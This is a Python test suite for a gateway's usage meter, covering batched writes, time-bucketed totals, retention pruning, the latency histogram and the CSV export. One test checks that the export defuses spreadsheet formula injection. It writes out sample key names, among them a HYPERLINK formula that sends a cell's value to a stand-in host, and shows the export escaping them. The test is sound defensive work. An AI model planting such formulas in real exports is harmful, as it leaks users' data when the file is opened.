"""gateway/usage.py: the meter's batched writes and what the Usage page and the CSV export
read back (totals, buckets over time, the window), on a migrated SQLite database (the time
arithmetic and the retention also on PostgreSQL); the histograms /metrics serves."""

import asyncio
import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
import sqlalchemy as sa

from cortex_app.gateway.service import Gateway
from cortex_app.gateway.usage import LATENCY_BUCKETS, Histogram, UsageMeter, rows_csv, series, totals
from cortex_app.settings import load_settings
from tests.conftest import record_at

NOW = datetime(2026, 11, 28, 12, 30, tzinfo=timezone.utc)


def test_meter_writes_in_one_batch_and_reads_back(migrated_db):
    meter = UsageMeter(migrated_db)
    meter.record(1, "ci", "chat", "chat", False, 200, 10, 5, 12.5, None)
    meter.record(1, "ci", "chat", "chat", True, 200, 10, 7, 30.0, 4.0)
    meter.record(2, "ops", "emb", "embeddings", False, 200, 3, 0, 2.0, None)
    meter.record(2, "ops", "chat", "chat", False, 503, 0, 0, 1.0, None)
    assert asyncio.run(meter.flush()) == 4 and asyncio.run(meter.flush()) == 0
    by_model = {t.name: t for t in totals(migrated_db, "24h", "model")}
    assert (by_model["chat"].requests, by_model["chat"].errors, by_model["chat"].prompt_tokens,
            by_model["chat"].completion_tokens) == (3, 1, 20, 12)
    assert [t.name for t in totals(migrated_db, "24h", "key")] == ["ci", "ops"]
    exported = list(csv.DictReader(io.StringIO("".join(rows_csv(migrated_db, "24h", batch=3)))))
    assert len(exported) == 4 and exported[1]["stream"] == "1" and exported[1]["ttft_ms"] == "4.0"
    assert [r["status"] for r in exported] == ["200", "200", "200", "503"]


def test_the_export_never_hands_a_spreadsheet_a_formula(migrated_db):
    """Key names (and every other text cell) are what someone typed: one starting with = + - @
    or a tab or carriage return would run as a formula where the export is opened."""
    meter = UsageMeter(migrated_db)
    names = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+1", "-2", "@SUM(A1)", "\tx", "\rx", "ci-bot"]
    for name in names:
        meter.record(1, name, "-chat" if name == "-2" else "chat", "chat", False, 200, 1, 1, 1.0, None)
    asyncio.run(meter.flush())
    exported = list(csv.DictReader(io.StringIO("".join(rows_csv(migrated_db, "24h")))))
    assert [r["key_name"] for r in exported] == ["'" + n for n in names[:-1]] + ["ci-bot"]
    assert [r["model_name"] for r in exported] == ["chat", "chat", "'-chat", "chat", "chat", "chat", "chat"]


def test_a_failed_write_keeps_the_records_for_the_next_flush(tmp_path):
    meter = UsageMeter(sa.create_engine(f"sqlite:///{tmp_path}/empty.db"))  # no usage_record table
    meter.record(1, "ci", "chat", "chat", False, 200, 10, 5, 12.5, None)
    with pytest.raises(sa.exc.OperationalError):
        asyncio.run(meter.flush())
    assert meter.pending == 1 and meter.written == 0


def test_off_means_nothing_recorded(migrated_db):
    meter = UsageMeter(migrated_db, enabled=False)
    meter.record(1, "ci", "chat", "chat", False, 200, 10, 5, 12.5, None)
    assert asyncio.run(meter.flush()) == 0 and totals(migrated_db, "24h", "model") == []


@pytest.fixture(params=["sqlite", "postgresql"])
def usage_db(request, tmp_path):
    """A migrated database of each kind the console runs on."""
    from cortex_app.db import make_engine
    from tests.conftest import migrate

    url = (f"sqlite:///{tmp_path}/cortex.db" if request.param == "sqlite"
           else request.getfixturevalue("fresh_postgres_db"))
    migrate(url)
    engine = make_engine(url)
    yield engine
    engine.dispose()


def _recorded_at(meter: UsageMeter, when: datetime, name: str = "chat", tokens: int = 1, key: str = "ci") -> None:
    record_at(meter, when, 1, key, name, "chat", False, 200, tokens, 0, 1.0, None)


def test_window_and_buckets(usage_db):
    meter = UsageMeter(usage_db)
    for hours_ago, tokens in ((0.1, 10), (1.5, 20), (1.6, 5), (30, 100)):
        _recorded_at(meter, NOW - timedelta(hours=hours_ago), tokens=tokens)
    _recorded_at(meter, NOW - timedelta(hours=2, minutes=59, seconds=59), name="emb", tokens=7, key="ops")
    asyncio.run(meter.flush())
    labels, values = series(usage_db, "24h", "model", now=NOW)
    assert len(labels) == len(values["chat"]) == 25 and sum(values["chat"]) == 35  # 30 h ago is out
    # hour buckets: 12:24 in the 12:00 one (the last), 11:00 and 10:54 in the two before it,
    # 09:30:01 in the 09:00 one
    assert values["chat"][-3:] == [5, 20, 10] and values["emb"][-4:] == [7, 0, 0, 0]
    assert labels[-1] == "11-28 12:00" and labels[-4] == "11-28 09:00"
    assert series(usage_db, "24h", "key", now=NOW)[1]["ops"][-4] == 7
    week_labels, week = series(usage_db, "7d", "model", now=NOW)
    # 6 h steps from 12:00 a week ago: 30 h ago (06:30 the day before) is in the step of 06:00
    assert sum(week["chat"]) == 135 and week["chat"][week_labels.index("11-27 06:00")] == 100
    assert totals(usage_db, "24h", "model", now=NOW)[0].prompt_tokens == 35


def test_records_past_the_retention_are_deleted_in_batches(usage_db, monkeypatch):
    """What the gateway's hourly retention job runs (Gateway.prune_usage), with its setting."""
    import cortex_app.gateway.usage as usage_mod

    meter = UsageMeter(usage_db)
    now = datetime.now(timezone.utc)
    for days_ago in (400, 100, 31, 31, 31):
        _recorded_at(meter, now - timedelta(days=days_ago))
    for days_ago in (29, 1, 0):
        _recorded_at(meter, now - timedelta(days=days_ago), name="kept")
    asyncio.run(meter.flush())
    monkeypatch.setattr(usage_mod, "PRUNE_BATCH", 2)  # batches of 2: five old ones take three
    assert usage_mod.prune(usage_db, now - timedelta(days=30), stop=lambda: True) == 2  # a stop: one batch
    with usage_db.connect() as c:
        assert c.execute(sa.text("SELECT count(*) FROM usage_hour WHERE model_name = 'chat'")).scalar() == 3
    gateway = Gateway(usage_db, None, None, load_settings({"CORTEX_USAGE_RETENTION_DAYS": "30"}))
    assert gateway.prune_usage() == 3
    assert [t.name for t in totals(usage_db, "30d", "model", now=now)] == ["kept"]
    with usage_db.connect() as c:
        assert c.execute(sa.text("SELECT count(*) FROM usage_record")).scalar() == 3
        assert c.execute(sa.text("SELECT DISTINCT model_name FROM usage_hour")).scalars().all() == ["kept"]
    assert gateway.prune_usage() == 0


def test_the_hourly_sums_agree_with_the_records(usage_db):
    """What the Usage page reads (usage_hour, added to by every flush) against the records."""
    meter = UsageMeter(usage_db)
    for minutes_ago, model, key, status, tokens in ((5, "chat", "ci", 200, 10), (10, "chat", "ci", 503, 0),
                                                     (20, "chat", "ops", 200, 4), (45, "emb", "ci", 200, 2)):
        record_at(meter, NOW - timedelta(minutes=minutes_ago), 1, key, model, "chat", False, status, tokens, 1, 8.0,
                  None)
        asyncio.run(meter.flush())  # one flush each: the second one into an hour adds to its row
    with usage_db.connect() as c:
        rows = c.execute(sa.text("SELECT model_name, key_name, requests, errors, prompt_tokens, "
                                 "completion_tokens, latency_ms_sum FROM usage_hour ORDER BY 1, 2, 3")).all()
    # 12:25, 12:20 and 12:10 in the 12:00 hour; 11:45 in the 11:00 one
    assert [tuple(r) for r in rows] == [("chat", "ci", 2, 1, 10, 2, 16.0), ("chat", "ops", 1, 0, 4, 1, 8.0),
                                        ("emb", "ci", 1, 0, 2, 1, 8.0)]
    chat = totals(usage_db, "24h", "model", now=NOW)[0]
    assert (chat.name, chat.requests, chat.errors, chat.prompt_tokens, chat.avg_latency_ms) == ("chat", 3, 1, 14, 8.0)


def test_histogram_is_cumulative_with_inf():
    h = Histogram()
    for s in (0.001, 0.02, 0.02, 500.0):
        h.observe(s)
    buckets = dict(h.buckets())
    assert buckets[str(LATENCY_BUCKETS[0])] == 1 and buckets["0.025"] == 3 and buckets["+Inf"] == 4
    assert h.n == 4 and abs(h.total - 500.041) < 1e-9
